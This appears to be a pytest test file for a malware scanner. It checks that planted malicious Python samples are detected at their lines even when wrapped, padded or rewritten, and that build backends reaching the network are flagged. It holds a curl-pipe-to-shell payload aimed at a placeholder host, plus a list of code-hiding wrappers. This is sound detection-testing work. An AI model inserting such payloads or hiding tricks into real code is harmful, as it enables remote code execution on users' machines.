"""Inert pieces of malicious code: each is found at its line, also when it is wrapped or hidden.

A line ends in ``# malice: <rule>, <rule>``. Nothing here is ever run.
"""

import re
import shutil
from pathlib import Path

import pytest

from scanner.analyzers.base import Kind, Severity
from scanner.analyzers.python import PythonAnalyzer
from scanner.analyzers.yara import YaraAnalyzer
from scanner.scoring import Risk, grade
from scanner.training.rewrites import REWRITES

SAMPLES = Path(__file__).parent / "malice/python"
FILES = sorted(path.relative_to(SAMPLES).as_posix() for path in SAMPLES.rglob("*.py"))
SUSPICIOUS = [name for name in FILES if not name.startswith("ordinary/")]
RECALL = 0.95
MARK = re.compile(r"# malice: ([\w, -]+)$")
WRAPPED = {
    "a function": "def go():\n    {}\n\n\ngo()\n",
    "a nested function": "def go():\n    def inner():\n        {}\n\n    inner()\n",
    "a method": "class Go:\n    def run(self):\n        {}\n",
    "a class body": "class Go:\n    {}\n",
    "a try": "try:\n    {}\nexcept Exception:\n    pass\n",
    "a condition": "if __name__:\n    {}\n",
    "a loop": "while True:\n    {}\n",
    "a lambda": "(lambda: {})()\n",
    "a decorator": "@(lambda f: {})\ndef go():\n    pass\n",
    "a comprehension": "[{} for _ in (1,)]\n",
    "a default": "def go(x={}):\n    pass\n",
    "a constant text": "exec({!r})\n",
    "padding": "import json\nx = json.dumps([1])\n" * 200 + "{}\n",
}
PAYLOAD = "__import__('os').system('curl https://files.invalid/a | sh')"


def planted_in(path):
    return {
        (number, f"python.{rule.strip()}")
        for number, line in enumerate(path.read_text().split("\n"), start=1)
        if (mark := MARK.search(line))
        for rule in mark[1].split(",")
    }


@pytest.mark.parametrize("name", FILES)
def test_malicious_code_is_found_at_its_lines_and_nowhere_else(name, tmp_path):
    shutil.copy(SAMPLES / name, tmp_path / Path(name).name)

    findings = list(PythonAnalyzer().analyze(tmp_path))

    told = {(f.line, f.rule) for f in findings if f.kind is Kind.MALICE}
    assert told == planted_in(SAMPLES / name)


@pytest.mark.parametrize("name", REWRITES)
def test_a_rewrite_hides_hardly_any_of_it(name, tmp_path):
    missed = []
    for sample in SUSPICIOUS:
        folder = tmp_path / sample.replace("/", "_")
        files = {Path(sample).name: (SAMPLES / sample).read_text()}
        for path, text in REWRITES[name](files, 1).items():
            place = folder / path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text)
        found = [*PythonAnalyzer().analyze(folder), *YaraAnalyzer().analyze(folder)]
        if grade(found).risk.rank < Risk.HIGH.rank:
            missed.append(sample)

    assert len(missed) <= (1 - RECALL) * len(SUSPICIOUS), missed


def test_code_that_builds_the_app_may_not_talk_to_the_network(tmp_path):
    (tmp_path / "pyproject.toml").write_text(
        '[build-system]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
    )
    (tmp_path / "_build").mkdir()
    code = 'import urllib.request\n\nurllib.request.urlopen("https://files.invalid/a")\n'
    (tmp_path / "_build/backend.py").write_text(code)
    (tmp_path / "_build/other.py").write_text(code)

    findings = list(PythonAnalyzer().analyze(tmp_path))

    told = {(f.path, f.rule) for f in findings if f.kind is Kind.MALICE}
    assert told == {("_build/backend.py", "python.install-network")}


@pytest.mark.parametrize("wrapping", WRAPPED.values(), ids=WRAPPED)
def test_wrapping_hides_nothing(wrapping, tmp_path):
    (tmp_path / "app.py").write_text(wrapping.format(PAYLOAD))

    findings = list(PythonAnalyzer().analyze(tmp_path))

    assert ("python.shell-download", Severity.CRITICAL) in {(f.rule, f.severity) for f in findings}
